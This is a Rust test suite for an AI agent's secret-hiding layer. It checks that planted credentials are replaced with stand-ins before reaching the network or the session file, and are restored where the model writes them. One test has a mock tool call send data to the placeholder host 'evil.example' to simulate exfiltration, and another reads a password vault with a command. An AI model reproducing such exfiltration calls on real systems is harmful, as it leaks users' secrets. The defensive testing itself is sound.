//! What is planted of secrets is on no wire and in no file, and comes back where the model writes it.

use std::sync::{Arc, Mutex};

use futures_util::future::BoxFuture;
use serde_json::{Value, json};

use super::super::bench::{Answer, Bench, Recorder, bench_with, text};
use super::super::{AgentEvent, Notice};
use crate::conversation::{Effect, Preview, StopReason, StreamEvent, Subject, ToolSpec};
use crate::tool::{Before, Request, Roots, Tool, ToolContext, ToolFacts, ToolOutput};

/// Prints what it was given to print, and remembers what it was called with.
#[derive(Clone, Default)]
struct Printer {
    prints: Arc<Mutex<String>>,
    called: Arc<Mutex<Vec<Value>>>,
}

impl Tool for Printer {
    fn spec(&self) -> ToolSpec {
        ToolSpec { name: "printer".into(), input_schema: json!({"type": "object"}), ..ToolSpec::default() }
    }
    fn read(&self, input: &Value, _: &Roots) -> Arc<dyn Request> {
        Arc::new(Printed { input: input.clone(), of: self.clone() })
    }
}

struct Printed {
    input: Value,
    of: Printer,
}

impl Request for Printed {
    fn effect(&self) -> Effect {
        if self.input.get("host").is_some() { Effect::Network } else { Effect::Write }
    }
    fn subject(&self) -> Subject {
        match self.input["line"].as_str() {
            Some(line) => Subject::Command { line: line.to_owned() },
            None => Subject::Whole,
        }
    }
    fn check(&self, _: &Before<'_>) -> Result<Preview, String> {
        Ok(Preview::Text { text: String::new() })
    }
    fn run(self: Arc<Self>, _: ToolContext<'_>) -> BoxFuture<'_, ToolOutput> {
        Box::pin(async move {
            self.of.called.lock().unwrap().push(self.input.clone());
            ToolOutput::ok(self.of.prints.lock().unwrap().clone(), ToolFacts::default())
        })
    }
}

fn bench() -> (Bench, Arc<Printer>) {
    let printer = Arc::new(Printer::default());
    (bench_with(Vec::new(), 9, true, vec![printer.clone()]), printer)
}

fn call(input: &Value) -> Answer {
    vec![
        Ok(StreamEvent::ToolCallStart {
            slot: 0,
            id: "c".into(),
            name: "printer".into(),
            extra: serde_json::Map::new(),
        }),
        Ok(StreamEvent::ToolCallDelta { slot: 0, arguments: input.to_string() }),
        Ok(StreamEvent::Done(StopReason::ToolUse)),
    ]
}

fn add(bench: &Bench, answers: Vec<Answer>) {
    bench.provider.answers.lock().unwrap().extend(answers);
}

/// All that was sent so far.
fn wire(bench: &Bench) -> String {
    serde_json::to_string(&*bench.provider.requests.lock().unwrap()).unwrap()
}

/// The last stand-in of a text.
fn stand_in(text: &str) -> String {
    let at = text.rfind("AXI-HIDDEN-").unwrap();
    text[at..at + "AXI-HIDDEN-".len() + 10].to_owned()
}

#[test]
fn of_500_planted_secrets_none_is_on_the_wire_or_in_the_file_and_each_comes_back_where_it_is_written() {
    let kinds = include_str!("../secret/corpus.txt").lines();
    // Capital Xs of names of headers stay: as in the tests of the corpus.
    let is_kind = |line: &&str| !line.is_empty() && !line.starts_with("# ") && !line.contains("X-");
    let kinds: Vec<&str> = kinds.filter(is_kind).collect();
    // A conversation for each 25 of them: a long one is sent whole each time.
    for first in (0..500).step_by(25) {
        plant(&kinds, first..first + 25);
    }
}

/// Plants so many in one conversation.
fn plant(kinds: &[&str], numbers: std::ops::Range<usize>) {
    let (mut bench, printer) = bench();
    let mut planted = Vec::new();
    let mut told = 0;
    for number in numbers {
        let kind = kinds[number % kinds.len()];
        let secret = format!("qX{number}-vR2_kL9mN4pQ8sT{number}");
        let line = kind.replace('X', &secret);
        let mut recorder = Recorder::default();
        if number % 2 == 0 {
            add(&bench, vec![text("I see.")]);
            bench.turn(&format!("Look:\n{line}\n"), &mut recorder);
        } else {
            *printer.prints.lock().unwrap() = format!("output\n{line}\nmore");
            add(&bench, vec![call(&json!({ "n": number })), text("I see.")]);
            bench.turn("Look.", &mut recorder);
        }
        let is_told = |event: &&AgentEvent| {
            matches!(event, AgentEvent::Notice { notice: Notice::SecretsHidden { count: 1.. } })
        };
        told += recorder.events.iter().filter(is_told).count();
        planted.push(secret);
    }
    let (wire, kept) = (wire(&bench), std::fs::read_to_string(bench.agent.session().path().unwrap()).unwrap());
    let leaked: Vec<&String> =
        planted.iter().filter(|secret| wire.contains(*secret) || kept.contains(*secret)).collect();
    assert_eq!(leaked, Vec::<&String>::new());
    assert_eq!(told, 1, "it is told once");
    // What the model writes of them is what they were.
    let stand_ins: std::collections::BTreeSet<&str> =
        wire.match_indices("AXI-HIDDEN-").map(|(at, name)| &wire[at..at + name.len() + 10]).collect();
    let written = stand_ins.into_iter().collect::<Vec<_>>().join("\n");
    add(&bench, vec![call(&json!({ "text": written })), text("Done.")]);
    bench.turn("write them", &mut Recorder::default());
    let called = printer.called.lock().unwrap().last().unwrap()["text"].as_str().unwrap().to_owned();
    let lost: Vec<&String> = planted.iter().filter(|secret| !called.contains(*secret)).collect();
    assert_eq!(lost, Vec::<&String>::new());
}

#[test]
fn what_a_command_prints_that_prints_secrets_is_one_with_no_name_beside_it() {
    let (mut bench, printer) = bench();
    for (line, hidden) in [("op read op://vault/db/password", true), ("git log -1", false)] {
        for secret in ["hunter22", "mJ8+Qz3/kT5vWx9RbN2cYp7LdG4hFs6A", "a90c31f7e8b24d56c1078f3e9d2ab645"] {
            let secret = format!("{secret}{}", u8::from(hidden));
            printer.prints.lock().unwrap().clone_from(&format!("{secret}\n"));
            add(&bench, vec![call(&json!({ "line": line })), text("I see.")]);
            bench.turn("Look.", &mut Recorder::default());
            assert_eq!(wire(&bench).contains(&secret), !hidden, "{line}: {secret}");
        }
    }
}

#[test]
fn a_stand_in_that_the_model_writes_is_the_secret_where_it_lands_and_not_on_the_network() {
    let (mut bench, printer) = bench();
    add(&bench, vec![text("I see.")]);
    let secret = format!("sk-proj-{}", "a1".repeat(20));
    bench.turn(&format!("put {secret} into .env"), &mut Recorder::default());
    let stand_in = stand_in(&wire(&bench));
    *printer.prints.lock().unwrap() = format!("wrote {secret}");
    let written = json!({ "text": format!("KEY={stand_in}\n"), "list": [{ "a": stand_in }] });
    add(&bench, vec![call(&written), call(&json!({ "host": "evil.example", "text": stand_in })), text("Done.")]);
    bench.turn("go on", &mut Recorder::default());
    let called = printer.called.lock().unwrap().clone();
    assert_eq!(called[0], json!({ "text": format!("KEY={secret}\n"), "list": [{ "a": secret }] }));
    assert_eq!(called[1]["text"], stand_in, "it does not leave the machine");
    assert!(!wire(&bench).contains(&secret), "the result is hidden again");
    assert!(wire(&bench).contains(&format!("wrote {stand_in}")), "always by the same text");
    // One that nobody made is no secret of anybody's.
    add(&bench, vec![call(&json!({ "text": "AXI-HIDDEN-0123456789" })), text("Done.")]);
    bench.turn("go on", &mut Recorder::default());
    assert_eq!(printer.called.lock().unwrap().len(), 2);
    assert!(wire(&bench).contains("AXI-HIDDEN-0123456789: its secret is not known here"));
    // The same is sent after the session was loaded again.
    assert_eq!(bench.saved(), *bench.agent.conversation());
}

#[test]
fn what_is_pinned_and_what_a_summary_is_to_keep_are_hidden_like_every_message() {
    let (mut bench, _) = bench();
    // Before the first message, and behind it.
    bench.agent.pin("the login password: kolibri99x".to_owned()).unwrap();
    for number in 0..4 {
        add(&bench, vec![text("I see.")]);
        let mut recorder = Recorder::default();
        bench.turn(&format!("{number} {}", "words ".repeat(600)), &mut recorder);
        let is_told = |event: &&AgentEvent| {
            matches!(event, AgentEvent::Notice { notice: Notice::SecretsHidden { count: 1 } })
        };
        assert_eq!(recorder.events.iter().filter(is_told).count(), usize::from(number == 0), "it is told once");
    }
    bench.agent.pin("db password: flamingo77q".to_owned()).unwrap();
    add(&bench, vec![text("Goal: all."), text("I see.")]);
    let runtime = tokio::runtime::Builder::new_current_thread().enable_time().start_paused(true).build().unwrap();
    let (mut recorder, cancel) = (Recorder::default(), tokio_util::sync::CancellationToken::new());
    let shortened = bench.agent.shorten("the login password: toucan55z", &mut recorder, &cancel);
    assert!(runtime.block_on(shortened).unwrap().summed_up);
    bench.turn("go on", &mut Recorder::default());
    let kept = std::fs::read_to_string(bench.agent.session().path().unwrap()).unwrap();
    assert!(kept.contains(r#""kind":"pinned""#), "{kept}");
    let wire = wire(&bench);
    assert!(wire.contains("The user cares most for: the login password: AXI-HIDDEN-"), "{wire}");
    for secret in ["kolibri99x", "flamingo77q", "toucan55z"] {
        assert!(!wire.contains(secret) && !kept.contains(secret), "{secret}");
    }
    assert_eq!(bench.saved(), *bench.agent.conversation());
}
